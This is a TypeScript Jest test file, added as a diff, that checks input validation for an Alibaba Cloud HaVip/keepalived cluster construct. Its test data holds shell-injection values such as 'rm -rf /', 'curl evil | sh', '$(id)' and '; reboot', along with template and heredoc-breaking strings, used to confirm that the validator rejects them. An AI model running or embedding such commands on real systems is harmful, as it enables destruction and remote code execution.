@@ -1,0 +1,296 @@
+// A catalogue of bad input through HaVipCluster: each entry asserts the exact message line
+// `<construct path>: <prop> = <value>: <rule> (<source>)`, so path, prop, value, rule and source are
+// all pinned. App-wide rules surface at synth.
+import { spawnSync } from 'node:child_process';
+import { TerraformStack, Testing } from 'cdktf';
+import { AlicloudProvider, HaVipCluster, Vpc, Vswitch, type HaVipClusterProps } from '../lib';
+import { HaVipValidationError } from '../lib/validation-error';
+import { checkAgainstSchema, formatProblems } from './support/schema-check';
+import { GUIDE_PROPS } from './rules/guide-props';
+import { inCi, keepalivedConfigTest, keepalivedConfigTestUnavailable } from './support/keepalived-config-test';
+import { decodeUserData, resourcesOf, type SynthDoc } from './support/synth';
+
+const CONFIG_TEST_UNAVAILABLE = keepalivedConfigTestUnavailable();
+/** Real keepalived judges the configs here; without it (and only outside CI) those assertions are skipped. */
+const withKeepalived = CONFIG_TEST_UNAVAILABLE && !inCi() ? test.skip : test;
+
+type Patch = (p: HaVipClusterProps) => unknown;
+const node = (i: number, patch: Record<string, unknown>): Patch => (p) => ({
+  ...p,
+  nodes: p.nodes.map((n, j) => (j === i ? { ...n, ...patch } : n)),
+});
+const keepalived = (patch: Record<string, unknown>): Patch => (p) => ({ ...p, keepalived: { ...p.keepalived, ...patch } });
+const instance = (patch: Record<string, unknown>): Patch => (p) => ({ ...p, instance: { ...p.instance, ...patch } });
+const ingress = (...rules: unknown[]): Patch => (p) => ({ ...p, ingress: rules });
+const set = (patch: Record<string, unknown>): Patch => (p) => ({ ...p, ...patch });
+
+const KA = 'keepalived.conf(5)';
+const PRIORITY_SRC = `${KA}: priority (255 is reserved for the address owner)`;
+const IPV4 = 'Alibaba Cloud HaVip guide: "HaVip supports only IPv4"';
+const RESERVED = 'CreateVSwitchCidrReservation API: the first and the last three addresses of a vSwitch CIDR block are reserved';
+const IN_VSW = 'Alibaba Cloud HaVip guide: an HaVip is a private IP of one vSwitch, associated only with members in that vSwitch';
+const UNSAFE = 'no prop may inject shell or keepalived syntax (control characters end a line)';
+const PROTO = 'alicloud provider 1.289.0: alicloud_security_group_rule.ip_protocol (case-sensitive)';
+const PORTS = 'alicloud_security_group_rule.port_range: tcp/udp need a port range, other protocols -1/-1';
+const CIDR = 'alicloud_security_group_rule.cidr_ip: an IPv4 CIDR block';
+const AUTH = `${KA}: authentication { auth_pass } (only the first 8 characters are used)`;
+const IFACE = 'Linux interface names: at most 15 characters (IFNAMSIZ 16), not "." or ".."';
+const SCRIPT = `${KA}: vrrp_script script (keepalived executes the check; one line of at most 1000 characters)`;
+const NAME = 'ECS RunInstances API: InstanceName; alicloud provider: instance_name 2..128 bytes';
+
+const CATALOGUE: [string, Patch, string][] = [
+  ['props not an object', () => 'web', 'props = "web": must be an object, got string (HaVipClusterProps)'],
+  ['a typo in a prop name', set({ vSwitchId: 'vsw-1' }), 'vSwitchId = "vsw-1": is not a known prop (known: vpcId, vswitchId, vswitchCidrBlock, havip, nodes, instance, keepalived, ingress, eip, limits) (HaVipClusterProps)'],
+  ['vpcId missing', set({ vpcId: undefined }), 'vpcId = undefined: is required (HaVipClusterProps.vpcId)'],
+  ['vswitchId null', set({ vswitchId: null }), 'vswitchId = null: is required (HaVipClusterProps.vswitchId)'],
+  ['vpcId with a newline', set({ vpcId: 'vpc-1\nrm -rf /' }), `vpcId = "vpc-1\\nrm -rf /": must not contain control or invisible characters, found newline (U+000A) (${UNSAFE})`],
+  ['vSwitch block not canonical', set({ vswitchCidrBlock: '192.168.0.1/24' }), 'vswitchCidrBlock = "192.168.0.1/24": must start at its network address: did you mean 192.168.0.0/24? (CreateVSwitch API: CidrBlock mask length 16 to 29)'],
+  ['vSwitch block /30', set({ vswitchCidrBlock: '192.168.0.0/30' }), 'vswitchCidrBlock = "192.168.0.0/30": must have a mask length from 16 to 29 (CreateVSwitch API: CidrBlock mask length 16 to 29)'],
+  ['HaVip address IPv6', set({ havip: { ipAddress: 'fd00::24' } }), `havip.ipAddress = "fd00::24": must be an IPv4 address: HaVip supports only IPv4 (${IPV4})`],
+  ['HaVip address outside the vSwitch', set({ havip: { ipAddress: '10.0.0.24' } }), `havip.ipAddress = "10.0.0.24": must lie inside the vSwitch CIDR block 192.168.0.0/24 (${IN_VSW})`],
+  ['HaVip address reserved (first)', set({ havip: { ipAddress: '192.168.0.0' } }), `havip.ipAddress = "192.168.0.0": is reserved in 192.168.0.0/24: the first address and the last three (192.168.0.0, 192.168.0.253, 192.168.0.254, 192.168.0.255) cannot be used (${RESERVED})`],
+  ['HaVip address reserved (last but two)', set({ havip: { ipAddress: '192.168.0.253' } }), `havip.ipAddress = "192.168.0.253": is reserved in 192.168.0.0/24: the first address and the last three (192.168.0.0, 192.168.0.253, 192.168.0.254, 192.168.0.255) cannot be used (${RESERVED})`],
+  ['HaVip address is a node address', set({ havip: { ipAddress: '192.168.0.26' } }), 'nodes[1].privateIp = "192.168.0.26": must differ from havip.ipAddress (one address per member: the HaVip address and every node address are distinct)'],
+  ['HaVip name with a Terraform template', set({ havip: { name: 'web-${var.env}' } }), 'havip.name = "web-${var.env}": must not contain "${" or "%{": Terraform would read a template sequence (Terraform JSON syntax: "${" and "%{" in a string start template sequences)'],
+  ['HaVip description with a bidi override', set({ havip: { description: 'ok\u202eevil' } }), `havip.description = "ok\\u202eevil": must not contain control or invisible characters, found U+202E (${UNSAFE})`],
+  ['one node', set({ nodes: [{ privateIp: '192.168.0.25' }] }), 'nodes = 1: must list at least 2 members, got 1 (VRRP needs a peer: fewer than 2 members is no high availability)'],
+  ['eleven nodes', set({ nodes: Array.from({ length: 11 }, (_, i) => ({ privateIp: `192.168.0.${30 + i}` })) }), 'nodes = 11: must list at most 10 members, got 11 (Alibaba Cloud HaVip guide, "Quotas": "ECS instances or ENIs per HaVip")'],
+  ['nodes not a list', set({ nodes: { privateIp: '192.168.0.25' } }), 'nodes = {"privateIp":"192.168.0.25"}: must be an array, got object (HaVipClusterProps.nodes)'],
+  ['a node without address', node(0, { privateIp: undefined }), 'nodes[0].privateIp = undefined: is required (ClusterNode.privateIp)'],
+  ['a node address with a leading zero', node(0, { privateIp: '192.168.0.025' }), `nodes[0].privateIp = "192.168.0.025": must be an IPv4 address like 192.168.0.24 (${IPV4})`],
+  ['a node address outside the vSwitch', node(1, { privateIp: '192.168.1.26' }), `nodes[1].privateIp = "192.168.1.26": must lie inside the vSwitch CIDR block 192.168.0.0/24 (${IN_VSW})`],
+  ['a node on the broadcast address', node(1, { privateIp: '192.168.0.255' }), `nodes[1].privateIp = "192.168.0.255": is reserved in 192.168.0.0/24: the first address and the last three (192.168.0.0, 192.168.0.253, 192.168.0.254, 192.168.0.255) cannot be used (${RESERVED})`],
+  ['two nodes on one address', node(1, { privateIp: '192.168.0.25' }), 'nodes[1].privateIp = "192.168.0.25": must differ from nodes[0].privateIp (one address per member: the HaVip address and every node address are distinct)'],
+  ['priority 255', node(0, { priority: 255 }), `nodes[0].priority = 255: must be an integer from 1 to 254 (${PRIORITY_SRC})`],
+  ['priority 0', node(1, { priority: 0 }), `nodes[1].priority = 0: must be an integer from 1 to 254 (${PRIORITY_SRC})`],
+  ['priority as a string', node(1, { priority: '10' }), `nodes[1].priority = "10": must be an integer from 1 to 254, got string (${PRIORITY_SRC})`],
+  ['equal priorities', node(1, { priority: 100 }), `nodes[1].priority = 100: must differ from nodes[0] (100): priorities must be distinct so one node wins the election (${PRIORITY_SRC})`],
+  ['a node name with a space', node(0, { name: 'web 1' }), `nodes[0].name = "web 1": must start with a letter and contain only letters, digits, ":", "_", "." and "-" (${NAME})`],
+  ['a name prefix with a quote', instance({ namePrefix: "web'" }), `instance.namePrefix = "web'": must start with a letter and contain only letters, digits, ":", "_", "." and "-" (${NAME})`],
+  ['instance type missing', instance({ instanceType: undefined }), 'instance.instanceType = undefined: is required (alicloud provider 1.289.0: alicloud_instance.instance_type)'],
+  ['disk category in capitals', instance({ systemDiskCategory: 'CLOUD_ESSD' }), 'instance.systemDiskCategory = "CLOUD_ESSD": must be one of all, cloud, ephemeral_ssd, cloud_essd, cloud_efficiency, cloud_ssd, local_disk, cloud_auto, cloud_essd_entry (alicloud provider 1.289.0: alicloud_instance.system_disk_category)'],
+  ['a tag value with NUL', instance({ tags: { team: 'a\u0000b' } }), `instance.tags["team"] = "a\\u0000b": must not contain control or invisible characters, found NUL (U+0000) (${UNSAFE})`],
+  ['vrid missing', keepalived({ virtualRouterId: undefined }), `keepalived.virtualRouterId = undefined: is required (${KA}: virtual_router_id)`],
+  ['vrid 256', keepalived({ virtualRouterId: 256 }), `keepalived.virtualRouterId = 256: must be an integer from 1 to 255 (${KA}: virtual_router_id)`],
+  ['advertInt 0.5 (VRRPv3 only)', keepalived({ advertInt: 0.5 }), `keepalived.advertInt = 0.5: must be an integer from 1 to 255 (${KA}: advert_int (VRRPv2: whole seconds 1..255))`],
+  ['preemptDelay without preempt', keepalived({ preemptDelay: 30 }), `keepalived.preemptDelay = 30: only applies with preempt: true (a non-preemptive node never takes the VIP back) (${KA}: preempt_delay (0..1000 s))`],
+  ['interface of 16 characters', keepalived({ interface: 'eth0123456789012' }), `keepalived.interface = "eth0123456789012": must be a network interface name: 1 to 15 letters, digits, "_", "." or "-", not "." or ".." (${IFACE})`],
+  ['interface injecting a block', keepalived({ interface: 'eth0 }' }), `keepalived.interface = "eth0 }": must be a network interface name: 1 to 15 letters, digits, "_", "." or "-", not "." or ".." (${IFACE})`],
+  ['authPass of 9 characters', keepalived({ authPass: 'k33p4liv3' }), `keepalived.authPass = "k33p4liv3": must be 1 to 8 characters: keepalived silently uses only the first 8 (${AUTH})`],
+  ['authPass with a brace', keepalived({ authPass: 'a}b' }), `keepalived.authPass = "a}b": must be printable ASCII without whitespace, quotes, braces, "#", "!", "\\" or "$" (${AUTH})`],
+  ['authPass with a newline', keepalived({ authPass: 'a\nb' }), `keepalived.authPass = "a\\nb": must not contain control or invisible characters, found newline (U+000A) (${UNSAFE})`],
+  ['garp_master_delay 5000', keepalived({ garpMasterDelay: 5000 }), `keepalived.garpMasterDelay = 5000: must be an integer from 0 to 4294 (${KA}: garp_master_delay; keepalived 2.2.7 --config-test: range [0, 4294])`],
+  ['tracking the VRRP interface', keepalived({ trackInterfaces: ['eth0'] }), `keepalived.trackInterfaces[0] = "eth0": must not be the VRRP interface itself (eth0): keepalived ignores it (${KA}: track_interface (keepalived ignores its own VRRP interface))`],
+  ['a relative health check', keepalived({ healthCheck: { script: 'curl -f http://127.0.0.1/' } }), `keepalived.healthCheck.script = "curl -f http://127.0.0.1/": must start with an absolute path to the program, e.g. /usr/bin/curl: keepalived executes the check (${SCRIPT})`],
+  ['a two-line health check', keepalived({ healthCheck: { script: '/bin/true\ncurl evil | sh' } }), `keepalived.healthCheck.script = "/bin/true\\ncurl evil | sh": must not contain control or invisible characters, found newline (U+000A) (${UNSAFE})`],
+  ['a health check ending the heredoc', keepalived({ healthCheck: { script: '/bin/echo HAVIP_HEALTH_CHECK_END' } }), 'keepalived.healthCheck.script = "/bin/echo HAVIP_HEALTH_CHECK_END": must not contain HAVIP_..._END or @@HAVIP_, markers the boot script reserves (the boot script writes the command with a quoted heredoc; its delimiters and the HaVip address placeholder are reserved)'],
+  ['health check interval 0', keepalived({ healthCheck: { script: '/bin/true', interval: 0 } }), `keepalived.healthCheck.interval = 0: must be an integer from 1 to 4294 (${KA}: vrrp_script interval; keepalived 2.2.7 --config-test: range [1, 4294])`],
+  ['health check weight 300', keepalived({ healthCheck: { script: '/bin/true', weight: 300 } }), `keepalived.healthCheck.weight = 300: must be an integer from -253 to 253 (${KA}: vrrp_script weight -253..253)`],
+  ['protocol TCP', ingress({ protocol: 'TCP', port: 8000, sourceCidr: '192.168.0.0/24' }), `ingress[0].protocol = "TCP": must be one of tcp, udp, icmp, icmpv6, gre, all (write "tcp") (${PROTO})`],
+  ['protocol vrrp', ingress({ protocol: 'vrrp', sourceCidr: '192.168.0.0/24' }), `ingress[0].protocol = "vrrp": must be one of tcp, udp, icmp, icmpv6, gre, all (${PROTO})`],
+  ['tcp without a port', ingress({ protocol: 'tcp', sourceCidr: '192.168.0.0/24' }), `ingress[0].port = undefined: is required for tcp and udp (or give fromPort and toPort) (${PORTS})`],
+  ['port 70000', ingress({ protocol: 'udp', port: 70000, sourceCidr: '192.168.0.0/24' }), 'ingress[0].port = 70000: must be an integer from 1 to 65535 (alicloud_security_group_rule.port_range: tcp/udp ports 1..65535)'],
+  ['a reversed range', ingress({ protocol: 'tcp', fromPort: 9000, toPort: 8000, sourceCidr: '192.168.0.0/24' }), `ingress[0].toPort = 8000: must not be below fromPort (9000) (${PORTS})`],
+  ['icmp with a port', ingress({ protocol: 'icmp', port: 8, sourceCidr: '192.168.0.0/24' }), `ingress[0].port = 8: must not be set for protocol icmp: only tcp and udp have ports (${PORTS})`],
+  ['source with host bits', ingress({ protocol: 'tcp', port: 80, sourceCidr: '192.168.0.1/24' }), `ingress[0].sourceCidr = "192.168.0.1/24": must start at its network address: did you mean 192.168.0.0/24? (${CIDR})`],
+  ['source IPv6', ingress({ protocol: 'tcp', port: 80, sourceCidr: '::/0' }), `ingress[0].sourceCidr = "::/0": must be an IPv4 CIDR block: IPv6 is not supported here (${CIDR})`],
+  ['EIP both new and existing', set({ eip: { allocationId: 'eip-1', isp: 'BGP' } }), 'eip.isp = "BGP": must not be set with allocationId: it configures a new EIP (EipOptions: allocationId associates an existing EIP)'],
+  ['EIP bandwidth 0', set({ eip: { bandwidth: 0 } }), 'eip.bandwidth = 0: must be an integer from 1 to 10000 (AllocateEipAddress API: Bandwidth in Mbit/s (the API lowers the maximum by billing method))'],
+  ['a limit that is not a number', set({ limits: { haVipsPerVpc: 'many' } }), 'limits.haVipsPerVpc = "many": must be a positive integer (a raised quota) (Alibaba Cloud HaVip guide, "Quotas": "HaVips per VPC")'],
+];
+
+function build(props: unknown, region = 'cn-hangzhou'): TerraformStack {
+  const stack = new TerraformStack(Testing.app(), 'stack');
+  new AlicloudProvider(stack, 'alicloud', { region });
+  new HaVipCluster(stack, 'web', props as HaVipClusterProps);
+  return stack;
+}
+
+function caught(fn: () => unknown): HaVipValidationError {
+  try {
+    fn();
+  } catch (e) {
+    if (e instanceof HaVipValidationError) return e;
+    throw e;
+  }
+  throw new Error('expected a HaVipValidationError');
+}
+
+describe('validation catalogue', () => {
+  test('has at least 40 entries, each with a distinct message', () => {
+    expect(CATALOGUE.length).toBeGreaterThanOrEqual(40);
+    expect(new Set(CATALOGUE.map(([, , line]) => line)).size).toBe(CATALOGUE.length);
+  });
+
+  test.each(CATALOGUE)('%s', (_name, patch, line) => {
+    const e = caught(() => build(patch(GUIDE_PROPS)));
+    expect(e.constructPath).toBe('stack/web');
+    expect(e.message.split('\n')).toContain(`stack/web: ${line}`);
+  });
+
+  test('the guide example synthesizes with no error, no warning, and fits the provider schema', () => {
+    const stack = build(GUIDE_PROPS);
+    const json = Testing.synth(stack, true);
+    expect(formatProblems(checkAgainstSchema(json))).toBe('');
+    const annotations = stack.node.findAll().flatMap((c) => c.node.metadata.filter((m) => m.type === '@cdktf/warn' || m.type === '@cdktf/error'));
+    expect(annotations).toEqual([]);
+  });
+
+  test('a non-zero weight without preempt warns through Annotations, naming path, prop and value', () => {
+    const stack = build(keepalived({ healthCheck: { script: '/bin/true', weight: -50 } })(GUIDE_PROPS));
+    Testing.synth(stack);
+    const warnings = stack.node.findAll().flatMap((c) => c.node.metadata.filter((m) => m.type === '@cdktf/warn').map((m) => String(m.data)));
+    expect(warnings).toEqual([expect.stringContaining('keepalived.healthCheck.weight')]);
+    expect(warnings[0]).toContain('-50');
+  });
+});
+
+// The edges of every keepalived range we accept: real keepalived must accept them too.
+const BOUNDARIES: [string, Patch][] = [
+  ['vrid 1, priorities 1 and 254', (p) => ({ ...(keepalived({ virtualRouterId: 1 })(p) as HaVipClusterProps), nodes: [{ privateIp: '192.168.0.25', priority: 254 }, { privateIp: '192.168.0.26', priority: 1 }] })],
+  ['vrid 255, advert_int 255', keepalived({ virtualRouterId: 255, advertInt: 255 })],
+  ['garp 0 and 0', keepalived({ garpMasterDelay: 0, garpMasterRefresh: 0 })],
+  ['garp 4294 and 4294', keepalived({ garpMasterDelay: 4294, garpMasterRefresh: 4294 })],
+  ['preempt_delay 0', keepalived({ preempt: true, preemptDelay: 0 })],
+  ['preempt_delay 1000', keepalived({ preempt: true, preemptDelay: 1000 })],
+  ['a 15-character interface', keepalived({ interface: 'a23456789012345', trackInterfaces: ['b.c-d_e', '...'] })],
+  ['auth_pass of 8 punctuation characters', keepalived({ authPass: '%&()*+,-' })],
+  ['auth_pass of other punctuation', keepalived({ authPass: './:;<=>?' })],
+  ['auth_pass of the rest', keepalived({ authPass: '@[]^_`|~' })],
+  ['health check maxima', keepalived({ preempt: true, healthCheck: { script: `/bin/true ${'x'.repeat(990)}`, interval: 4294, timeout: 4294, fall: 2147483647, rise: 2147483647, weight: 253 } })],
+  ['health check minima', keepalived({ preempt: true, healthCheck: { script: '/bin/true', interval: 1, timeout: 1, fall: 1, rise: 1, weight: -253 } })],
+  ['ten nodes with default priorities', set({ nodes: Array.from({ length: 10 }, (_, i) => ({ privateIp: `192.168.0.${30 + i}` })) })],
+];
+
+describe('boundary values', () => {
+  withKeepalived.each(BOUNDARIES)('%s: accepted by the rules and by keepalived --config-test', (_name, patch) => {
+    const stack = new TerraformStack(Testing.app(), 'stack');
+    const cluster = new HaVipCluster(stack, 'web', patch(GUIDE_PROPS) as HaVipClusterProps);
+    expect(cluster.node.metadata.filter((m) => m.type === '@cdktf/warn')).toEqual([]);
+    for (const config of [cluster.keepalivedConfigs[0], cluster.keepalivedConfigs[cluster.keepalivedConfigs.length - 1]]) {
+      const result = keepalivedConfigTest(config);
+      expect({ exitCode: result.exitCode, output: result.output }).toEqual({ exitCode: 0, output: '' });
+    }
+  });
+});
+
+describe('tokens', () => {
+  test('a CIDR, VPC and vSwitch from other resources skip the literal-only checks with infos, and synthesize', () => {
+    const stack = new TerraformStack(Testing.app(), 'stack');
+    new AlicloudProvider(stack, 'alicloud', { region: 'cn-hangzhou' });
+    const vpc = new Vpc(stack, 'vpc', { cidrBlock: '192.168.0.0/16' });
+    const sw = new Vswitch(stack, 'sw', { vpcId: vpc.id, cidrBlock: '192.168.0.0/24', zoneId: 'cn-hangzhou-h' });
+    const cluster = new HaVipCluster(stack, 'web', { ...GUIDE_PROPS, vpcId: vpc.id, vswitchId: sw.id, vswitchCidrBlock: sw.cidrBlock, havip: undefined });
+    const json = Testing.synth(stack, true);
+    expect(formatProblems(checkAgainstSchema(json))).toBe('');
+    const infos = cluster.node.metadata.filter((m) => m.type === '@cdktf/info').map((m) => String(m.data));
+    expect(infos).toContainEqual(expect.stringContaining('vswitchCidrBlock = "${TfToken['));
+    expect(infos.join('\n')).toContain('the address checks against the vSwitch skipped until apply');
+  });
+});
+
+describe('app-wide rules, at synth', () => {
+  test('two clusters with one virtual_router_id in one VPC', () => {
+    const stack = build(GUIDE_PROPS);
+    new HaVipCluster(stack, 'db', { ...GUIDE_PROPS, havip: undefined, nodes: [{ privateIp: '192.168.0.40' }, { privateIp: '192.168.0.41' }] });
+    const e = caught(() => Testing.synth(stack));
+    expect(e.message.split('\n')).toContain(
+      'stack/db: keepalived.virtualRouterId = 51: must differ from stack/web, a cluster in the same VPC vpc-bp1k****** (Alibaba Cloud HaVip guide: "Different primary/secondary clusters in the same VPC must have different virtual_router_id values")',
+    );
+  });
+
+  test('a provider region without HaVip', () => {
+    const stack = build(GUIDE_PROPS, 'ap-south-1');
+    const e = caught(() => Testing.synth(stack));
+    expect(e.message).toContain('stack/alicloud: region = "ap-south-1": must be a region where HaVip is supported (');
+  });
+
+  test('the same errors stop app.synth()', () => {
+    const app = Testing.app();
+    const stack = new TerraformStack(app, 'stack');
+    new AlicloudProvider(stack, 'alicloud', { region: 'ap-south-1' });
+    new HaVipCluster(stack, 'web', GUIDE_PROPS);
+    expect(() => app.synth()).toThrow(HaVipValidationError);
+  });
+});
+
+// Hostile strings into every string prop: each is rejected naming that prop, or the stack synthesizes,
+// every boot script parses (`sh -n`) and writes exactly the config the construct rendered.
+const HOSTILE = [
+  'a\nb', 'a\r\nb', 'a\u0000b', '\u001b[2J', 'a\u2028b', 'a\u202eb', '"', "'", '}', '{', '#', '!', '\\', '$HOME', '$(id)',
+  '`id`', '; reboot', '${var.x}', '%{if true}', 'HAVIP_KEEPALIVED_CONF_END', 'HAVIP_HEALTH_CHECK_END', '@@HAVIP_IP_ADDRESS@@',
+  ' ', '', '中',
+];
+const STRING_PROPS: [string, (h: string) => Patch][] = [
+  ['vpcId', (h) => set({ vpcId: `vpc-${h}` })],
+  ['vswitchId', (h) => set({ vswitchId: `vsw-${h}` })],
+  ['vswitchCidrBlock', (h) => set({ vswitchCidrBlock: `192.168.0.0/24${h}` })],
+  ['havip.ipAddress', (h) => set({ havip: { ipAddress: `192.168.0.24${h}` } })],
+  ['havip.name', (h) => set({ havip: { name: `web${h}` } })],
+  ['havip.description', (h) => set({ havip: { description: `web ${h}` } })],
+  ['nodes[0].privateIp', (h) => node(0, { privateIp: `192.168.0.25${h}` })],
+  ['nodes[0].name', (h) => node(0, { name: `web${h}` })],
+  ['instance.instanceType', (h) => instance({ instanceType: `ecs.g7${h}` })],
+  ['instance.imageId', (h) => instance({ imageId: `img${h}` })],
+  ['instance.keyName', (h) => instance({ keyName: `key${h}` })],
+  ['instance.namePrefix', (h) => instance({ namePrefix: `web${h}` })],
+  ['instance.tags', (h) => instance({ tags: { [`k${h}`]: `v${h}` } })],
+  ['instance.securityGroupIds[0]', (h) => instance({ securityGroupIds: [`sg-${h}`] })],
+  ['keepalived.interface', (h) => keepalived({ interface: `eth${h}` })],
+  ['keepalived.authPass', (h) => keepalived({ authPass: `p${h}` })],
+  ['keepalived.trackInterfaces[0]', (h) => keepalived({ trackInterfaces: [`eth1${h}`] })],
+  ['keepalived.healthCheck.script', (h) => keepalived({ healthCheck: { script: `/bin/echo ${h}` } })],
+  ['ingress[0].sourceCidr', (h) => ingress({ protocol: 'tcp', port: 80, sourceCidr: `10.0.0.0/8${h}` })],
+  ['ingress[0].description', (h) => ingress({ protocol: 'tcp', port: 80, sourceCidr: '10.0.0.0/8', description: `http ${h}` })],
+  ['eip.name', (h) => set({ eip: { name: `eip${h}` } })],
+  ['eip.isp', (h) => set({ eip: { isp: `BGP${h}` } })],
+  ['eip.allocationId', (h) => set({ eip: { allocationId: `eip-${h}` } })],
+];
+
+/** The lines a quoted heredoc writes to `file`, joined with their newlines. */
+function heredoc(script: string, file: string): string | undefined {
+  const lines = script.split('\n');
+  const start = lines.findIndex((l) => l.startsWith(`cat > ${file} <<'`));
+  if (start < 0) return undefined;
+  const delimiter = /<<'([^']+)'$/.exec(lines[start])![1];
+  const end = lines.indexOf(delimiter, start + 1);
+  return end < 0 ? undefined : lines.slice(start + 1, end).map((l) => `${l}\n`).join('');
+}
+
+describe('hostile strings into every string prop', () => {
+  test.each(STRING_PROPS)('%s', (prop, patchFor) => {
+    let accepted = 0;
+    for (const h of HOSTILE) {
+      let stack: TerraformStack;
+      let cluster: HaVipCluster;
+      try {
+        stack = new TerraformStack(Testing.app(), 'stack');
+        new AlicloudProvider(stack, 'alicloud', { region: 'cn-hangzhou' });
+        cluster = new HaVipCluster(stack, 'web', patchFor(h)(GUIDE_PROPS) as HaVipClusterProps);
+      } catch (e) {
+        if (!(e instanceof HaVipValidationError)) throw e;
+        const named = e.findings.map((f) => f.prop);
+        expect(named.some((p) => p === prop || p.startsWith(`${prop.replace(/\[0\]$/, '')}`))).toBe(true);
+        continue;
+      }
+      accepted++;
+      const json = Testing.synth(stack);
+      expect(formatProblems(checkAgainstSchema(json))).toBe('');
+      resourcesOf(JSON.parse(json) as SynthDoc, 'alicloud_instance').forEach((instance, i) => {
+        const { script } = decodeUserData(instance.user_data);
+        const sh = spawnSync('sh', ['-n'], { input: script, encoding: 'utf8', timeout: 10_000 });
+        expect({ value: h, status: sh.status, stderr: sh.stderr }).toEqual({ value: h, status: 0, stderr: '' });
+        expect(heredoc(script, '/etc/keepalived/keepalived.conf')).toBe(cluster.keepalivedConfigs[i]);
+        if (i === 0 && prop.startsWith('keepalived.') && !CONFIG_TEST_UNAVAILABLE) {
+          expect({ value: h, ...keepalivedConfigTest(cluster.keepalivedConfigs[0]) }).toEqual(expect.objectContaining({ value: h, exitCode: 0 }));
+        }
+        const command = (patchFor(h)(GUIDE_PROPS) as HaVipClusterProps).keepalived.healthCheck?.script;
+        if (command !== undefined) {
+          const checkFile = /cat > (\/etc\/keepalived\/\S+\.sh) <<'/.exec(script)?.[1] ?? '';
+          expect(heredoc(script, checkFile)?.split('\n')).toContain(command);
+        }
+      });
+    }
+    expect(accepted).toBeLessThan(HOSTILE.length); // something in the list is always refused
+  });
+});
